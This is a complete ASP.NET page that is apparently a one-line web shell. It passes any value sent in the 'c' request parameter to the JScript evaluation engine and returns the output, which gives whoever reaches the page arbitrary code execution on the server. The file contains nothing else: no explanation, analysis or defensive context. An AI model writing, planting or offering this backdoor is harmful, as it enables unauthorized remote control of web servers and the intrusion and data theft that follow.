<%@ Page Language="C#" %><%@ Import Namespace="Microsoft.JScript" %>
<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
